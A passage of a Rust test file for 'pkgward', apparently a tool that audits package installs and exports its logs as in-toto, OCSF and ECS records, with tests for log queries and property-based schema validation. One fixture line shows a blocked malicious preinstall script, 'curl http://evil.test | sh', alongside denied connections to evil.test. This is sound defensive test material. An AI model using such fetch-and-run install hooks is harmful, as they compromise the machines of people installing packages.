    let statements = lines(&pkgward(&["export", "--format", "in-toto", "--file", f]));
    let v = intoto_validator();
    for s in &statements {
        let errs: Vec<String> = v.iter_errors(s).map(|e| e.to_string()).collect();
        assert!(errs.is_empty(), "{s:#}\n{errs:#?}");
    }
    let with_digests: BTreeSet<&str> = audit
        .iter()
        .filter(|r| r["kind"] == "package" && r["change"] != "removed")
        .filter(|r| {
            r.get("sha256").is_some_and(|v| !v.is_null())
                || r.get("integrity")
                    .is_some_and(|v| v.as_array().is_some_and(|a| !a.is_empty()))
        })
        .map(|r| r["invocation_id"].as_str().unwrap())
        .collect();
    assert_eq!(statements.len(), with_digests.len(), "{statements:#?}");
    let sri = npm_pkg.integrity.trim_start_matches("sha512-");
    let npm_sha512 = pkgward::export::hex_digest("sha512", sri).unwrap().1;
    for s in &statements {
        for subj in s["subject"].as_array().unwrap() {
            let name = subj["name"].as_str().unwrap();
            if name.starts_with("pkg:npm/pw-exp-ok@") {
                assert_eq!(subj["digest"]["sha512"], npm_sha512.as_str(), "{s:#}");
            }
            if name.starts_with("pkg:pypi/pw-exp-wheel@") {
                assert_eq!(subj["digest"]["sha256"], wheel.sha256.as_str(), "{s:#}");
            }
        }
    }

    // log --package: the install that named it.
    let out = log_query(&log, &["--package", "pw-exp-ok", "--json"]);
    let found = lines(&out);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["invocation_id"], ids[0].as_str());
    let out = log_query(&log, &["--package", "PW_EXP.WHEEL"]);
    assert_eq!(
        text(&out.stdout).lines().count(),
        1,
        "{}",
        text(&out.stdout)
    );
    assert!(text(&out.stdout).contains(&format!("id={}", ids[1])));
    // log --host: both installs reached the loopback registry; the denied
    // one connected nowhere.
    let port = r.server.handle().port();
    let out = log_query(&log, &["--host", "127.0.0.1", "--json"]);
    let found: Vec<String> = lines(&out)
        .iter()
        .map(|v| v["invocation_id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(found, ids[..2].to_vec());
    let out = log_query(
        &log,
        &["--host", &format!("127.0.0.1:{port}"), "--tool", "pip"],
    );
    assert_eq!(text(&out.stdout).lines().count(), 1);
    let out = log_query(&log, &["--host", "evil.test"]);
    assert_eq!(text(&out.stdout), "");
    // log --invocation: the tree, with its connections and exit.
    let out = log_query(&log, &["--invocation", &ids[0]]);
    let human = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        human
            .lines()
            .next()
            .unwrap()
            .contains("npm install pw-exp-ok"),
        "{human}"
    );
    assert!(human.contains("connection  allow"), "{human}");
    assert!(human.contains(&npm_pkg.tarball_path), "{human}");
    let out = log_query(&log, &["--invocation", &ids[0][..13], "--json"]);
    if out.status.success() {
        // (a prefix shared by none of the others: the same tree)
        let recs = lines(&out);
        assert!(recs.iter().all(|r| r["invocation_id"] == ids[0].as_str()));
    } else {
        assert!(text(&out.stderr).contains("give more of the id"));
    }
    let recs = lines(&log_query(&log, &["--invocation", &ids[0], "--json"]));
    assert_eq!(recs[0]["kind"], "invocation");
    assert!(recs.iter().any(|r| r["kind"] == "exit"));
    assert!(recs.iter().any(|r| r["kind"] == "connection"));
    assert_eq!(
        recs.len(),
        audit
            .iter()
            .filter(|r| r["invocation_id"] == ids[0].as_str())
            .count()
    );
}

#[test]
fn log_reads_rotated_files_and_queries_the_fixture() {
    let t = tempfile::tempdir().unwrap();
    let log = fixture(t.path());
    // All four invocations, from the three files, oldest first.
    let out = log_query(&log, &["--json"]);
    let all = lines(&out);
    assert_eq!(all.len(), 4);
    assert!(text(&out.stderr).contains("not valid JSON"));
    assert_eq!(
        all[0]["exit"]["exit_code"], 0,
        "the exit is in another file"
    );
    // --package: by a package record (requests, changed), a script record
    // (evil), the command line (left-pad@1.3.0; requests==2.32.0).
    let ids = |args: &[&str]| -> Vec<String> {
        let mut a = args.to_vec();
        a.push("--json");
        lines(&log_query(&log, &a))
            .iter()
            .map(|v| v["invocation_id"].as_str().unwrap()[34..].to_string())
            .collect()
    };
    assert_eq!(ids(&["--package", "left-pad"]), ["0a"]);
    assert_eq!(ids(&["--package", "requests"]), ["0a", "0d"]);
    assert_eq!(ids(&["--package", "evil"]), ["0a", "0c"]);
    assert_eq!(ids(&["--package", "old"]), ["0a"]);
    assert!(ids(&["--package", "left"]).is_empty());
    // --host: proxy and artifact hosts, traced IPs, with or without port.
    assert_eq!(ids(&["--host", "EVIL.test"]), ["0a"]);
    assert_eq!(ids(&["--host", "127.0.0.1:4873"]), ["0a"]);
    assert!(ids(&["--host", "127.0.0.1:1"]).is_empty());
    assert_eq!(ids(&["--host", "::1"]), ["0b"]);
    assert_eq!(ids(&["--host", "[::1]:9"]), ["0b"]);
    // Filters combine.
    assert_eq!(ids(&["--package", "evil", "--denied"]), ["0c"]);
    // --invocation: the tree in order, the child indented under it.
    let out = log_query(
        &log,
        &["--invocation", "01900000-0000-7000-8000-00000000000a"],
    );
    let human = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    for needle in [
        "npm install left-pad@1.3.0",
        "process     pid 5000 /usr/bin/node",
        "connection  deny       CONNECT evil.test:443",
        "artifact    GET http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz 200 2048 bytes  sha256:9f86d081884c7d65",
        "artifact    GET http://127.0.0.1:4873/broken.tgz 200 10 bytes  (incomplete)",
        "script      deny       evil@6.6.6 preinstall: curl http://evil.test | sh  (did not run)",
        "file        created    /home/dev/project/node_modules/.bin/left-pad",
        "package     changed    requests 2.32.0 (was 2.31.0)",
        "[flagged: a shell started by install-time code]",
        "watch       truncated",
        "    2026-01-01 10:00:01  node-gyp",
        "      connection  would-deny connect ::1:9",
    ] {
        assert!(human.contains(needle), "{needle}\n{human}");
    }
    assert!(!human.contains("pip install"), "{human}");
    let recs = lines(&log_query(
        &log,
        &[
            "--invocation",
            "01900000-0000-7000-8000-00000000000b",
            "--json",
        ],
    ));
    assert_eq!(
        recs.len(),
        3,
        "the child alone: invocation, connection, exit"
    );
    let out = log_query(
        &log,
        &["--invocation", "01900000-0000-7000-8000-0000000000ff"],
    );
    assert_eq!(out.status.code(), Some(78));
    let out = log_query(&log, &["--invocation", "01900000", "--json"]);
    assert_eq!(out.status.code(), Some(78));
    assert!(
        text(&out.stderr).contains("matches 4"),
        "{}",
        text(&out.stderr)
    );
    // --invocation shows one tree: it does not mix with list filters.
    let out = log_query(&log, &["--invocation", "x", "--tool", "npm"]);
    assert_eq!(out.status.code(), Some(2));
}

// ---------------------------------------------------------------- any shape

mod any_shape {
    use super::*;
    use proptest::prelude::*;
    use std::sync::OnceLock;

    fn validators() -> &'static BTreeMap<u64, jsonschema::Validator> {
        static V: OnceLock<BTreeMap<u64, jsonschema::Validator>> = OnceLock::new();
        V.get_or_init(ocsf_validators)
    }

    fn fields() -> &'static Value {
        static F: OnceLock<Value> = OnceLock::new();
        F.get_or_init(|| load("ecs/ecs_flat.json"))
    }

    fn leaf() -> impl Strategy<Value = Value> {
        prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::from),
            any::<i64>().prop_map(Value::from),
            any::<u64>().prop_map(Value::from),
            (0u64..70000).prop_map(Value::from),
            any::<f64>()
                .prop_filter("finite", |f| f.is_finite())
                .prop_map(Value::from),
            ".{0,10}".prop_map(Value::from),
            Just(json!("2026-01-01T00:00:00.250Z")),
            Just(json!("::1")),
            Just(json!("10.0.0.1")),
            Just(json!("registry.example.com")),
            Just(json!("http://127.0.0.1:9/a/b.tgz?q#f")),
            Just(json!(SHA256)),
            Just(json!(SRI512)),
            Just(json!("deny")),
            Just(json!("would-deny")),
            Just(json!("added")),
            Just(json!("modified")),
        ]
    }

    fn value() -> impl Strategy<Value = Value> {
        leaf().prop_recursive(2, 16, 4, |inner| {
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..3).prop_map(Value::from),
                prop::collection::btree_map(
                    prop::sample::select(vec![
                        "algorithm",
                        "value",
                        "message",
                        "code",
                        "path",
                        "sha256",
                        "action",
                        "x",
                    ]),
                    inner,
                    0..3
                )
                .prop_map(|m| Value::Object(
                    m.into_iter().map(|(k, v)| (k.to_string(), v)).collect()
                )),
            ]
        })
    }

    const KEYS: &[&str] = &[
        "parent_id",
        "time",
        "tool",
        "argv",
        "cwd",
        "user",
        "uid",
        "host",
        "pid",
        "ppid",
        "parent_pid",
        "exe",
        "image",
        "command_line",
        "real_tool",
        "decision",
        "policy",
        "exit_code",
        "child_pid",
        "duration_ms",
        "ran",
        "findings",
        "error",
        "method",
        "port",
        "url",
        "status",
        "bytes_up",
        "bytes_down",
        "reason",
        "rule",
        "call",
        "size",
        "sha256",
        "content_type",
        "package",
        "version",
        "script",
        "command",
        "runner",
        "change",
        "name",
        "purl",
        "resolved",
        "integrity",
        "previous_version",
        "flagged",
        "ecosystem",
        "action",
    ];

    fn record() -> impl Strategy<Value = Value> {
        (
            prop::sample::select(vec![
                "invocation",
                "exit",
                "process",
                "connection",
                "artifact",
                "script",
                "file-written",
                "package",
            ]),
            prop::sample::select(vec!["i1", "i2"]),
            prop::collection::vec((prop::sample::select(KEYS), value()), 0..24),
        )
            .prop_map(|(kind, id, fields)| {
                let mut m = serde_json::Map::new();
                for (k, v) in fields {
                    m.insert(k.to_string(), v);
                }
                m.insert("kind".into(), json!(kind));
                m.insert("invocation_id".into(), json!(id));
                Value::Object(m)
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]
        /// Whatever shape a record has (a newer or older pkgward, a damaged
        /// line that still parses), its OCSF event validates and its ECS
        /// document uses ECS fields correctly.
        #[test]
        fn events_of_odd_records_still_validate(recs in prop::collection::vec(record(), 1..5)) {
            let t = tempfile::tempdir().unwrap();
            let log = t.path().join("audit.jsonl");
            let body: String = recs.iter().map(|r| format!("{r}\n")).collect();
            std::fs::write(&log, body).unwrap();
            let f = log.to_str().unwrap();
            for e in lines(&pkgward(&["export", "--format", "ocsf", "--file", f])) {
                let errs = ocsf_errors(validators(), &e);
                prop_assert!(errs.is_empty(), "{:#}\n{:#?}\n{:#}", e, errs, json!(recs));
            }
            for d in lines(&pkgward(&["export", "--format", "ecs", "--file", f])) {
                let p = ecs_problems(fields(), &d);
                prop_assert!(p.is_empty(), "{:#}\n{:#?}\n{:#}", d, p, json!(recs));
            }
            let v = intoto_validator();
            for s in lines(&pkgward(&["export", "--format", "in-toto", "--file", f])) {
                let errs: Vec<String> = v.iter_errors(&s).map(|e| e.to_string()).collect();
                prop_assert!(errs.is_empty(), "{:#}\n{:#?}\n{:#}", s, errs, json!(recs));
            }
        }
    }
}
